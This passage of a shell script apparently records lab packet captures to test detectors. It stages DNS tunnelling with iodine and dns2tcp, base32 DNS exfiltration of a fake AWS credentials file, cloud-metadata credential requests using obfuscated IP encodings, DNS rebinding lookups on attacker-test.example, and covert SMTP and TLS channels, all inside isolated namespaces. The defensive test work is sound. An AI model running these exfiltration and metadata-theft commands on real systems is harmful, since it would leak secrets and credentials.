		ip netns exec "$NS_A" curl -s --max-time 2 "http://$IP_S/" 2>/dev/null | grep -q "test server" &&
		ip netns exec "$NS_A" curl -s --max-time 2 -x "$PROXY" "http://$IP_S/" 2>/dev/null | grep -q "test server" &&
		ip netns exec "$NS_A" curl -s --max-time 2 "http://$IP_MD/latest/meta-data/" 2>/dev/null | grep -q "ami-id"; then
		ready=1; break
	fi
	sleep 0.2
done
[ -n "$ready" ] || { echo "record_detect.sh: dnsmasq, nginx, tinyproxy or a responder did not start" >&2; exit 1; }
kill -0 "$IODINED_PID" 2>/dev/null || { echo "record_detect.sh: iodined did not start" >&2; exit 1; }

# --- captures --------------------------------------------------------------------------
start_capture() { # start_capture NAME FILTER [SECONDS]: dumpcap on the agent's veth
	netns_capture_start "$NS_A" "$IF_A" "$@"
}
stop_capture() { netns_capture_stop; }
agent() { netns_log_exec "$NS_A" "$TMP/agent.log" "$@"; } # agent CMD...: log, never fail
DIG=(dig @"$IP_D" +tries=1 +time=2)
CURL=(curl -sS --max-time 5 -o /dev/null -w '%{http_code}\n')

# 1. iodine: the client in the background, wait (30 s at most) for its tunnel address,
# ping through the tunnel, then 4 KB of random data (iodine compresses with zlib, so
# ping's pattern would shrink to nothing) over TCP to 10.99.0.193:7000; stop the
# client ~10 s after it came up
start_capture iodine "udp port 53 or tcp port 53"
netns_bg "$NS_A" timeout 60 iodine -f -r -P "$IOD_PASS" -d ew-dns0 "$IP_D" "$IOD_ZONE" \
	>"$TMP/iodine.log" 2>&1
IODINE_PID=$NETNS_PID
up=
for _ in $(seq 1 150); do
	if ip -n "$NS_A" -4 addr show dev ew-dns0 2>/dev/null | grep -q "inet 10\.99\.0\.19[4-9]"; then
		up=1; break
	fi
	kill -0 "$IODINE_PID" 2>/dev/null || break
	sleep 0.2
done
[ -n "$up" ] || { echo "record_detect.sh: the iodine tunnel did not come up" >&2; cat "$TMP/iodine.log" >&2; exit 1; }
t0=$SECONDS
head -c 4096 /dev/urandom >"$TMP/iod-payload"
agent ping -n -c 3 -i 0.5 -W 10 "$TUN_SRV"
echo "+ nc $TUN_SRV 7000 <4 KB" >>"$TMP/agent.log"
ip netns exec "$NS_A" timeout 20 nc -N -w 15 "$TUN_SRV" 7000 <"$TMP/iod-payload" >>"$TMP/agent.log" 2>&1 ||
	echo "  (nc exit $?)" >>"$TMP/agent.log"
while [ $((SECONDS - t0)) -lt 10 ]; do sleep 0.5; done
stop_pid "$IODINE_PID" TERM
stop_capture

# 2. dns2tcp: 4 KB from stdin to the "sink" resource (40 s at most)
head -c 3072 /dev/urandom | base64 -w 76 >"$TMP/d2t-payload.txt" # 4,096 + newlines
head -c 4096 "$TMP/d2t-payload.txt" >"$TMP/d2t-payload"
start_capture dns2tcp "udp port 53 or tcp port 53"
echo "+ dns2tcpc" >>"$TMP/agent.log"
# stdin stays open 4 s after the payload, so the sink's answer can come back
{ cat "$TMP/d2t-payload"; sleep 4; } | ip netns exec "$NS_A" timeout 15 dns2tcpc -f /dev/null \
	-z "$D2T_ZONE" -k "$D2T_KEY" -r sink -l - -t 3 "$IP_D" >>"$TMP/dns2tcpc.log" 2>&1 ||
	echo "  (dns2tcpc exit $?)" >>"$TMP/agent.log"
stop_capture
grep -a "sink: received" "$TMP/dns2tcpc.log" >>"$TMP/agent.log" || true

# 3. dig_base32: a 1,050-byte text file, base32, 30 labels of 56 characters
python3 - "$TMP/secret.txt" <<'EOF'
import sys
lines = ["# ~/.aws/credentials (test data, not a real key)",
         "[default]", "aws_access_key_id = AKIAEXAMPLETEST0001",
         "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
         "region = eu-west-1", "", "[ci]", "aws_access_key_id = AKIAEXAMPLETEST0002",
         "aws_secret_access_key = je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY", ""]
body = "\n".join(lines) + "\n"
i = 0
while len(body) < 1050:
    i += 1
    body += "build-%03d deploy token=%08x%08x stage=prod notes=quarterly release checklist\n" % (i, i * 2654435761 % 2**32, i * 40503 % 2**32)
open(sys.argv[1], "w").write(body[:1050])
EOF
{ base32 -w 0 "$TMP/secret.txt" | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 56; echo; } | sed '/^$/d' >"$TMP/b32.chunks"
[ "$(wc -l <"$TMP/b32.chunks")" -eq 30 ] || { echo "record_detect.sh: expected 30 base32 chunks" >&2; exit 1; }
start_capture dig_base32 "udp port 53 or tcp port 53"
i=0
while read -r c && [ "$i" -lt 30 ]; do
	agent "${DIG[@]}" "$c.x.$EXFIL" TXT
	i=$((i + 1))
done <"$TMP/b32.chunks"
stop_capture

# 4. dig_slow: 60 queries of 3 x 63 base32 characters (118 bytes each, ~7 KB of random
# data), recorded quickly, then retimed to one query a minute
head -c 7200 /dev/urandom | base32 -w 0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 189 | head -n 60 >"$TMP/slow.chunks"
start_capture dig_slow_fast "udp port 53 or tcp port 53"
while read -r c; do
	agent "${DIG[@]}" "${c:0:63}.${c:63:63}.${c:126:63}.s.$EXFIL" TXT
done <"$TMP/slow.chunks"
stop_capture
python3 "$TMP/retime.py" "$TMP/dig_slow_fast.pcap" "$TMP/dig_slow.pcap" "$IP_A" 60 >>"$TMP/agent.log"
python3 - "$TMP/dig_slow_fast.pcap" "$TMP/dig_slow.pcap" <<'EOF' ||
import sys
a, b = (open(f, "rb").read() for f in sys.argv[1:3])
def recs(d):  # (lengths, bytes) of each record: everything but the timestamps
    off, r = 24, []
    while off + 16 <= len(d):
        incl = int.from_bytes(d[off + 8:off + 12], "little")
        r.append((d[off + 8:off + 16], d[off + 16:off + 16 + incl]))
        off += 16 + incl
    return r
sys.exit(0 if a[:24] == b[:24] and len(a) == len(b) and recs(a) == recs(b) else 1)
EOF
	{ echo "record_detect.sh: retiming changed packet contents" >&2; exit 1; }

# 5. metadata
start_capture metadata "tcp port 80 or tcp port 8080 or port 53"
agent "${CURL[@]}" -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" "http://$IP_MD/latest/api/token"
agent "${CURL[@]}" -H "X-aws-ec2-metadata-token: AQAEAEgYm9ndXMtdG9rZW4=" "http://$IP_MD/latest/meta-data/"
agent "${CURL[@]}" --path-as-is "http://$IP_MD/latest/meta-data/iam/security-credentials/"
agent "${DIG[@]}" metadata.google.internal A
agent "${CURL[@]}" --resolve "metadata.google.internal:80:$IP_MD" -H "Metadata-Flavor: Google" \
	"http://metadata.google.internal/computeMetadata/v1/instance/hostname"
agent "${CURL[@]}" -x "$PROXY" "http://$IP_MD/latest/meta-data/"
agent "${CURL[@]}" -x "$PROXY" -H "Metadata-Flavor: Google" \
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
for h in 2852039166 0xA9FEA9FE 0251.0376.0251.0376 169.254.43518 "[::ffff:169.254.169.254]"; do
	agent python3 "$TMP/client.py" raw "$IP_P" 8080 GET "http://$h/latest/meta-data/" "$h"
done
for h in 2852039166 0xA9FEA9FE 0251.0376.0251.0376 169.254.43518; do
	agent python3 "$TMP/client.py" raw "$IP_MD" 80 GET "/latest/meta-data/" "$h"
done
agent python3 "$TMP/client.py" raw "$IP_MD" 80 GET "/computeMetadata/v1/instance/hostname" \
	"metadata.google.internal" "Metadata-Flavor: Google"
agent "${CURL[@]}" -g "http://[$IP6_MD]/latest/meta-data/"
stop_capture

# 6. rebind
start_capture rebind "port 53"
agent "${DIG[@]}" rebind.attacker-test.example A
agent "${DIG[@]}" rebind.attacker-test.example AAAA
agent "${DIG[@]}" mapped.attacker-test.example AAAA
agent "${DIG[@]}" intranet.attacker-test.example A
agent "${DIG[@]}" loopback.attacker-test.example A
agent "${DIG[@]}" www.attacker-test.example A
stop_capture

# 7. icmp
start_capture icmp "icmp"
agent ping -n -c 3 -i 0.2 -W 2 -w 5 "$IP_S"
agent ping -n -c 10 -i 0.2 -W 2 -w 10 -s 1200 -p 4f1a9c27e36b05d8a2c7194e6f3b80d5 "$IP_S"
stop_capture

# 8. websocket and smtp
start_capture websocket "tcp port 80"
agent python3 "$TMP/client.py" ws "$IP_S" 80 "www.$OUT_D"
stop_capture

start_capture smtp "tcp port 25 or tcp port 587"
agent timeout 20 swaks --server "$IP_S" --port 25 --timeout 5 --helo agent.sandbox.test \
	--from agent@sandbox.test --to drop@$OUT_D --h-Subject "run 42 results" \
	--body "eval transcript attached: 3 files, 41 KB"
agent timeout 20 swaks --server "$IP_S" --port 587 --timeout 5 --helo agent.sandbox.test \
	--from agent@sandbox.test --to drop@$OUT_D
stop_capture

# 9. dns_over_tcp and direct_tls
start_capture dns_over_tcp "port 53"
agent "${DIG[@]}" +tcp www.example.com A
agent "${DIG[@]}" +tcp example.com TXT
agent "${DIG[@]}" +tcp www.example.org AAAA
stop_capture

start_capture direct_tls "tcp port 443 or tcp port 853"
agent timeout 10 openssl s_client -connect "$IP_S:443" -servername "api.$OUT_D" -alpn h2,http/1.1 </dev/null
agent timeout 10 openssl s_client -connect "$IP_S:443" -servername dns.google -alpn h2 </dev/null
agent timeout 10 kdig @"$IP_S" -p 853 +tls +tls-hostname="dns.$OUT_D" +timeout=3 +retry=0 www.example.com A
stop_capture

# 10. benign: dig batches of 150 questions 2 s apart (about 30 s in all), then 3
# requests through the proxy
split -l 150 -d "$TMP/benign.q" "$TMP/benign-part."
start_capture benign "port 53 or tcp port 8080" 120
for f in "$TMP"/benign-part.*; do
	ip netns exec "$NS_A" timeout 60 dig @"$IP_D" +tries=1 +time=1 +nocookie -f "$f" \
		>>"$TMP/benign-dig.log" 2>&1 || echo "  (dig batch exit $?)" >>"$TMP/agent.log"
	sleep 2
done
agent "${CURL[@]}" -x "$PROXY" "http://$IP_S/"
agent "${CURL[@]}" -x "$PROXY" "http://$IP_S/docs/index.html"
agent "${CURL[@]}" -x "$PROXY" -H "Accept: application/json" "http://$IP_S/api/v1/status"
stop_capture

# --- audit: no packet may have gone to an address outside these hosts ------------------
netns_audit_finish "10\.99\.0\.(2|10|53|60|61|80)|169\.254\.169\.254|fd00:99::(10|80)|fd00:ec2::254|ff02::[0-9a-f:]+"

ALL="iodine dns2tcp dig_base32 dig_slow metadata rebind icmp websocket smtp dns_over_tcp direct_tls benign"
for f in $ALL; do
	cp "$TMP/$f.pcap" "$OUTDIR/$f.pcap"
	chmod 644 "$OUTDIR/$f.pcap"
	echo "record_detect.sh: wrote $OUTDIR/$f.pcap ($(wc -c <"$OUTDIR/$f.pcap") bytes," \
		"$(tshark -r "$OUTDIR/$f.pcap" 2>/dev/null | wc -l) packets)"
done
echo "record_detect.sh: $(cat "$TMP/benign.log"); $(grep -c "status: " "$TMP/benign-dig.log" || true) answered"
echo "record_detect.sh: exfil collector saw $(grep -c "\.x\.$EXFIL 16" "$TMP/exfil-names.log" || true) fast" \
	"and $(grep -c "\.s\.$EXFIL 16" "$TMP/exfil-names.log" || true) slow questions"
echo "record_detect.sh: iodine: $(grep -a -E "Connection setup complete|Sending DNS queries|Switching" "$TMP/iodine.log" | tr '\n' ';')"
echo "record_detect.sh: client results (HTTP codes, pings, TLS, scripted clients):"
grep -a -E '^[0-9]{3}$|^(ws|raw|sink|retime)|packets transmitted|^New, |^;; (->>HEADER|ANSWER SECTION)|^<-  *[0-9]{3} |^ \*\*\*|^  \(' "$TMP/agent.log" |
	sed 's/, time .*//; s/, id: [0-9]*//' | sort | uniq -c
